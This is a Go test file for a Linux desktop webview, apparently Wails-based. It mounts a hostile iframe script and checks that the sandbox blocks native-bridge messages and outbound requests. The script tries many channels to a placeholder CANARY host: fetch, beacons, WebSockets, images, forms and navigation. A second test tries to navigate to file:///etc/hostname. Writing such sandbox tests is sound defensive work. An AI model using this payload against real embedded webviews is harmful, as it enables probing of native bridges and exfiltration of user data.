//go:build desktop && linux && cgo && lineup_driver

package desktop

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"lineup/weak"
)

// The frame has no CSP and the page allows every frame and connection: what
// stops it here is the view alone. CANARY is an address that must stay silent.
const hostileFrame = `<script>
const says = [];
function external(world, message) { try { world.webkit.messageHandlers.external.postMessage(message); } catch (e) {} }
function everyMessage(world, mark) {
  for (const m of ['LI', 'EE{"name":"x","data":[]}', 'C{"name":"main.App.Greet","args":[],"callbackID":"x"}', 'c{"id":1,"args":[],"callbackID":"x"}',
    'Wx', 'D', 'S', 'drag', 'resize:n-resize', 'runtime:ready', 'wails:showInspector']) external(world, m + mark);
}
everyMessage(window, '#frame');
const nested = document.createElement('iframe');
nested.srcdoc = '<script>(' + external + ')(window, "LInested#nested")<\/script>';
document.body.append(nested);
const blank = document.createElement('iframe');
document.body.append(blank);
try { everyMessage(blank.contentWindow, '#blank'); } catch (e) {}

function element(name, attributes) { const e = document.createElement(name); Object.assign(e, attributes); document.head.append(e); return e; }
element('link', {rel: 'preconnect', href: 'http://CANARY/preconnect'});
element('link', {rel: 'dns-prefetch', href: 'http://CANARY/dns'});
element('link', {rel: 'prefetch', href: 'http://CANARY/prefetch'});
element('link', {rel: 'preload', as: 'image', href: 'http://CANARY/preload'});
element('link', {rel: 'stylesheet', href: 'http://CANARY/stylesheet'});
element('img', {src: 'http://CANARY/img'});
element('script', {src: 'http://CANARY/script'});
element('iframe', {src: 'http://CANARY/iframe'});
element('video', {src: 'http://CANARY/video'}).load();
const tries = [fetch('http://CANARY/fetch', {mode: 'no-cors'})];
navigator.sendBeacon('http://CANARY/beacon', 'x');
new EventSource('http://CANARY/events');
new WebSocket('ws://CANARY/socket');
window.open('http://CANARY/open');
try { top.location = 'http://CANARY/top'; } catch (e) {}
const form = element('form', {action: 'http://CANARY/form', method: 'post', target: '_blank'}); try { form.submit(); } catch (e) {}
Promise.allSettled(tries).then(() => fetch('http://SURFACE/barrier', {mode: 'no-cors'})).then(() => {
  // These two lead the frame away, and with it all that is under way.
  element('a', {href: 'http://CANARY/download', download: 'x'}).click();
  setTimeout(() => { location = 'http://CANARY/self'; }, 200);
});
</script>`

// attack mounts the hostile frame and returns what got through, once the frame
// has done all it can.
func attack(t *testing.T, s *stage) []string {
	t.Helper()
	s.mount(strings.NewReplacer("CANARY", s.canary, "SURFACE", s.surface).Replace(hostileFrame))
	select {
	case <-s.barrier:
	case <-time.After(patience):
		t.Fatalf("the frame did not get through its attempts: reached %v, messages %s", s.reached(), s.ask("GET", "/messages", nil))
	}
	// The page still answers, and its answer comes after what the frame began.
	s.eval("for (let i = 0; i < 50; i++) await new Promise(r => setTimeout(r, 20))")

	var got []string
	for path := range s.reached() {
		got = append(got, path)
	}
	var messages []string
	if err := json.Unmarshal(s.ask("GET", "/messages", nil), &messages); err != nil {
		t.Fatal(err)
	}
	for _, message := range messages {
		_, mark, _ := strings.Cut(message, "#")
		got = append(got, "message of "+mark)
	}
	slices.Sort(got)
	return slices.Compact(got)
}

// sealed says whether all walls of the view stand in this run.
var sealed = !weak.Channel && !weak.Links && !weak.Proxy && !weak.Guard

// TestHostileFrame passes in the two builds for opposite reasons: sealed,
// nothing gets through; with the walls left out the same attempts do, which shows
// that the test can fail.
func TestHostileFrame(t *testing.T) {
	s := newStage(t)
	got := attack(t, s)
	var seal SealReport
	if err := json.Unmarshal(s.ask("GET", "/seal", nil), &seal); err != nil {
		t.Fatal(err)
	}
	if seal.OK() != sealed {
		t.Errorf("the view says %+v", seal)
	}
	if sealed {
		if len(got) > 0 {
			t.Errorf("got through: %q", got)
		}
		// Nothing listens on what would end the program, either.
		s.mount(`<script>for (const m of ['Q', 'H', 'BO:http://` + s.canary + `/browser']) try { webkit.messageHandlers.external.postMessage(m) } catch (e) {} parent.postMessage('tried', '*')</script>`)
		s.until("the program is alive", "heard.includes('tried')")
		return
	}
	for _, want := range []string{"message of frame", "message of nested", "any", "fetch", "img", "socket", "self"} {
		if !slices.Contains(got, want) {
			t.Errorf("%q did not get through without the walls; got %q", want, got)
		}
	}
	t.Logf("unsealed, these got through: %q", got)
}

// TestMainFrameStays tries to lead the window away from the host page.
func TestMainFrameStays(t *testing.T) {
	if !sealed {
		t.Skip("navigation is open in an unsealed build")
	}
	s := newStage(t)
	for _, address := range []string{
		"http://" + s.canary + "/main", "http://" + s.surface + "/main", "http://" + s.ui + "/main",
		"data:text/html,hello", "file:///etc/hostname", "about:blank", "wails://wails/page.js", "wails://other/", "mailto:a@b.c",
	} {
		s.eval("location.href = " + quote(address))
		s.eval("for (let i = 0; i < 10; i++) await new Promise(r => setTimeout(r, 20))")
		s.until(address, "location.href === 'wails://wails/' && window.heard !== undefined")
	}
	if reached := s.reached(); len(reached) > 0 {
		t.Errorf("%v", reached)
	}
}

func quote(text string) string {
	raw, _ := json.Marshal(text)
	return string(raw)
}
